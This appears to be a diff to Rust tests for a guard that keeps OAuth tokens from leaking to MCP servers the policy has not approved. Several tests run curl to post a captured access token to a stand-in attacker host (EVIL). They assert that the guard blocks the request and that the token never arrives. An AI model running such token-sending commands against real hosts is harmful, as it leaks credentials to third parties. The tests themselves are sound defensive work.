@@ -231,7 +231,7 @@ fn what_is_learned_from_passes_as_it_came() {
     }
 }
 
-/// Without that nobody knows the address, and tokens pass as before; nor where the policy names no host, or another one.
+/// Without that nobody knows the address, and tokens pass as before; nor where the policy names none, or another host.
 #[test]
 fn an_endpoint_that_nobody_has_named() {
     if !has("curl", &["--version"]) {
@@ -240,7 +240,8 @@ fn an_endpoint_that_nobody_has_named() {
     let scene = Scene::new(|_| {});
     let (access, _) = scene.login(MCP);
     assert!(scene.servers.given.lock().unwrap().contains(&access));
-    for policy in ["version = 1\n", "version = 1\n[oauth]\nlearn = [\"mcp.echo.example.com\"]\n"] {
+    for learn in ["", "\"mcp.echo.example.com\""] {
+        let policy = &format!("version = 1\n[oauth]\nlearn = [{learn}]\n");
         let scene = Scene::under(policy, |_| {});
         scene.discover(&[]);
         let (access, _) = scene.login(MCP);
@@ -256,4 +257,83 @@ fn an_endpoint_that_nobody_has_named() {
     let given =
         |outcome: &Outcome| matches!(outcome, Outcome::Given { what } if what.contains("mode observe"));
     assert!(scene.stage.records().iter().any(|record| given(&record.outcome)));
+}
+
+/// Where the policy says nothing, a login is kept outside if it goes on as it would without that.
+#[test]
+fn a_login_where_the_policy_says_nothing() {
+    if !has("curl", &["--version"]) {
+        return;
+    }
+    let scene = Scene::under("version = 1\n", |_| {});
+    scene.discover(&[]);
+    let (access, refresh) = scene.login(MCP);
+    assert!(!scene.servers.given.lock().unwrap().contains(&access));
+    assert!(scene.call(MCP, &access).contains(" 200") && scene.call(EVIL, &access).contains(" 401"));
+    let (second, _) =
+        scene.token(&format!("grant_type=refresh_token&refresh_token={refresh}&resource={EVIL}"));
+    assert!(scene.call(AUTH, &second).contains(" 200") && scene.call(EVIL, &second).contains(" 401"));
+    scene.nothing_came_in();
+    // One for a server elsewhere comes in, as if nothing had been learned; the record has the line for it.
+    let (elsewhere, _) = scene.login(EVIL);
+    assert!(scene.servers.given.lock().unwrap().contains(&elsewhere));
+    assert!(scene.call(EVIL, &elsewhere).contains(" 200"));
+    let line = "\"https://echo.example.com/oauth/token\" = [\"echo.example.com\", \"mcp.example.net\"]";
+    let given = |outcome: &Outcome| matches!(outcome, Outcome::Given { what } if what.contains(line));
+    assert_eq!(scene.stage.records().iter().filter(|record| given(&record.outcome)).count(), 1);
+}
+
+/// Who has strings of his choice looked for has nobody put in quarantine.
+#[test]
+fn hits_on_what_a_learned_endpoint_gave_begin_no_quarantine() {
+    if !has("curl", &["--version"]) {
+        return;
+    }
+    let learn = "version = 1\n[oauth]\nlearn = [\"*.example.com\"]\n[quarantine]\nhits = 1\nminutes = 1\n";
+    let scene = Scene::under(learn, |_| {});
+    scene.discover(&[]);
+    scene.login(MCP);
+    let token = scene.servers.given.lock().unwrap()[0].clone();
+    for url in [EVIL, "https://mcp.example.net/other"] {
+        let ran = scene.stage.run(&["curl", "-sS", "-i", "-d", &format!("x {token} x"), url]);
+        assert!(ran.said.contains("blocked by policy"));
+    }
+    assert!(!scene.stage.guard.is_quarantined());
+    assert!(!String::from_utf8_lossy(&scene.stage.server.bytes()).contains(&format!("x {token} x")));
+}
+
+/// A policy that is taken while the guard runs.
+#[test]
+fn a_host_that_a_reload_takes_out_is_forgotten() {
+    if !has("curl", &["--version"]) {
+        return;
+    }
+    let scene = Scene::new(|_| {});
+    scene.discover(&[]);
+    let (access, refresh) = scene.login(MCP);
+    assert!(scene.call(MCP, &access).contains(" 200"));
+    let learn = |hosts: &str| {
+        let text = format!("version = 1\n[oauth]\nlearn = [{hosts}]\n");
+        let config = Config::parse("policy.toml", &text).unwrap();
+        scene.stage.reload(engine(), |settings| {
+            settings.config(config);
+        });
+    };
+    learn("");
+    for url in [MCP, AUTH] {
+        assert!(scene.call(url, &access).contains(" 401"), "{url}");
+    }
+    let grant = format!("grant_type=refresh_token&refresh_token={refresh}");
+    assert!(scene.curl(&["-d", &grant, &format!("{AUTH}/oauth/token")]).contains("invalid_grant"));
+    // What is kept stays outside, and nothing more is learned.
+    let token = scene.servers.given.lock().unwrap()[0].clone();
+    let ran = scene.stage.run(&["curl", "-sS", "-i", "-d", &format!("x {token} x"), EVIL]);
+    assert!(ran.said.contains("blocked by policy"));
+    scene.nothing_came_in();
+    scene.discover(&[]);
+    let (after, _) = scene.login(MCP);
+    assert!(scene.servers.given.lock().unwrap().contains(&after));
+    // Not by itself when it comes back.
+    learn("\"*.example.com\"");
+    assert!(scene.call(MCP, &access).contains(" 401"));
 }
